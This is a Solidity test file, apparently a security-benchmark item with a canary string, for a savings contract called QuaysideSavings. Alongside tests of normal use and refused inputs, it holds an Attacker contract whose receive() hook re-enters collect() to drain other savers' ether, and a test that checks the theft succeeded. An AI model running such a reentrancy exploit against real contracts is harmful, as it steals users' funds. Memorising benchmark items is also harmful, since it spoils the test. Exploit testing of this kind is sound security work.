// SPDX-License-Identifier: MIT
// canary: assay-canary-f5ee9dd2-461c-4cb5-ad3e-30635d3f9a4e
pragma solidity 0.7.6;

import "./QuaysideSavings.sol";

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert() external;
    function addr(uint256 key) external returns (address);
    function expectRevert(bytes calldata reason) external;
}

/// Takes no ether, and owns a house of its own.
contract Ledge {
    QuaysideSavings internal house = new QuaysideSavings();

    function own() external view returns (QuaysideSavings) {
        return house;
    }

    function takeSurplus(uint256 amount) external {
        house.takeSurplus(amount);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    QuaysideSavings internal house;
    Attacker internal thief;
    address internal alice;
    address internal bob;

    function setUp() public {
        vm.warp(1700000000);
        house = new QuaysideSavings();
        house.addPlan(30 days, 200);
        house.addPlan(180 days, 800);

        vm.deal(address(this), 2 ether);
        (bool ok, ) = address(house).call{value: 2 ether}("");
        require(ok, "surplus");

        alice = vm.addr(0xA11CE);
        bob = vm.addr(0xB0B);
        vm.deal(alice, 6 ether);
        vm.deal(bob, 6 ether);
        vm.prank(alice);
        house.open{value: 6 ether}(1);
        vm.prank(bob);
        house.open{value: 5 ether}(0);

        thief = new Attacker(house);
        vm.deal(address(thief), 2 ether);
    }

    receive() external payable {}

    function test_Regular() public {
        uint256 start = block.timestamp;
        require(house.heldForSavers() == 6.48 ether + 5.1 ether, "held after opening");
        require(house.surplus() == 2 ether - 0.58 ether, "surplus after opening");

        vm.prank(bob);
        vm.expectRevert();
        house.open{value: 1 ether}(0);

        vm.prank(bob);
        vm.expectRevert();
        house.collect();

        vm.warp(start + 30 days);
        vm.prank(bob);
        house.collect();
        require(bob.balance == 1 ether + 5.1 ether, "bob paid with bonus");
        require(house.heldForSavers() == 6.48 ether, "held after collect");

        vm.prank(bob);
        vm.expectRevert();
        house.collect();

        vm.prank(bob);
        house.open{value: 1 ether}(0);
        (uint256 principal, uint256 bonus, ) = house.deposits(bob);
        require(principal == 1 ether && bonus == 0.02 ether, "bob opened again");

        vm.prank(alice);
        house.leaveEarly();
        require(alice.balance == 5.88 ether, "alice paid less fee");
        require(house.heldForSavers() == 1.02 ether, "held after leaving");

        uint256 free = house.surplus();
        vm.expectRevert();
        house.takeSurplus(free + 1);
        uint256 before = address(this).balance;
        house.takeSurplus(free);
        require(address(this).balance == before + free, "owner paid");
    }

    // What is refused, each from the state after setUp().

    /// Plans and surplus are the owner's, and plans within bounds.
    function test_RefusesPlans() public {
        vm.prank(alice);
        vm.expectRevert("Quayside: owner only");
        house.addPlan(30 days, 200);
        vm.prank(alice);
        vm.expectRevert("Quayside: owner only");
        house.takeSurplus(1);
        vm.expectRevert("Quayside: term out of range");
        house.addPlan(7 days - 1, 200);
        vm.expectRevert("Quayside: term out of range");
        house.addPlan(1460 days + 1, 200);
        vm.expectRevert("Quayside: bonus out of range");
        house.addPlan(30 days, 2001);
    }

    /// Deposits that are too small, not there, not covered, not in time.
    function test_RefusesDeposits() public {
        address carl = address(0xCA41);
        vm.deal(carl, 30 ether);
        vm.prank(carl);
        vm.expectRevert("Quayside: unknown plan");
        house.open{value: 1 ether}(2);
        vm.prank(carl);
        vm.expectRevert("Quayside: below minimum");
        house.open{value: 0.09 ether}(0);
        vm.prank(carl);
        vm.expectRevert("Quayside: bonus not covered");
        house.open{value: 30 ether}(1);
        vm.prank(carl);
        vm.expectRevert("Quayside: nothing on deposit");
        house.leaveEarly();
        vm.warp(block.timestamp + 180 days);
        vm.prank(alice);
        vm.expectRevert("Quayside: use collect");
        house.leaveEarly();
    }

    /// Sums that no number holds, and who takes no ether.
    function test_RefusesPayments() public {
        vm.deal(alice, uint256(-1));
        vm.prank(alice);
        vm.expectRevert("Quayside: already open");
        house.open{value: 1 ether}(0);
        address carl = address(0xCA41);
        vm.deal(carl, uint256(-1) - 1000 ether);
        vm.prank(carl);
        vm.expectRevert("Amounts: product too large");
        house.open{value: uint256(-1) - 1000 ether}(0);
        Ledge ledge = new Ledge();
        vm.deal(address(ledge), 1 ether);
        vm.prank(address(ledge));
        house.open{value: 1 ether}(0);
        vm.prank(address(ledge));
        vm.expectRevert("Quayside: payment refused");
        house.leaveEarly();
        vm.warp(block.timestamp + 30 days);
        vm.prank(address(ledge));
        vm.expectRevert("Quayside: payment refused");
        house.collect();
        vm.deal(address(ledge.own()), 1 ether);
        vm.expectRevert("Quayside: payment refused");
        ledge.takeSurplus(1);
        vm.deal(address(house), 1 ether);
        vm.expectRevert("Amounts: below zero");
        house.surplus();
    }

    function exploit() public {
        thief.begin();
        vm.warp(block.timestamp + 30 days);
        thief.finish();
    }

    function test_Exploit() public {
        uint256 before = address(thief).balance;
        exploit();
        require(address(thief).balance >= before + 9 ether, "no gain");
    }

    function target() public view returns (address) {
        return address(house);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

contract Attacker {
    QuaysideSavings internal house;
    uint256 internal expected;

    constructor(QuaysideSavings house_) {
        house = house_;
    }

    function begin() external {
        house.open{value: 2 ether}(0);
        (uint256 principal, uint256 bonus, ) = house.deposits(address(this));
        expected = principal + bonus;
    }

    function finish() external {
        house.collect();
    }

    receive() external payable {
        (uint256 principal, , ) = house.deposits(address(this));
        if (principal > 0 && house.heldForSavers() >= expected) {
            house.collect();
        }
    }
}
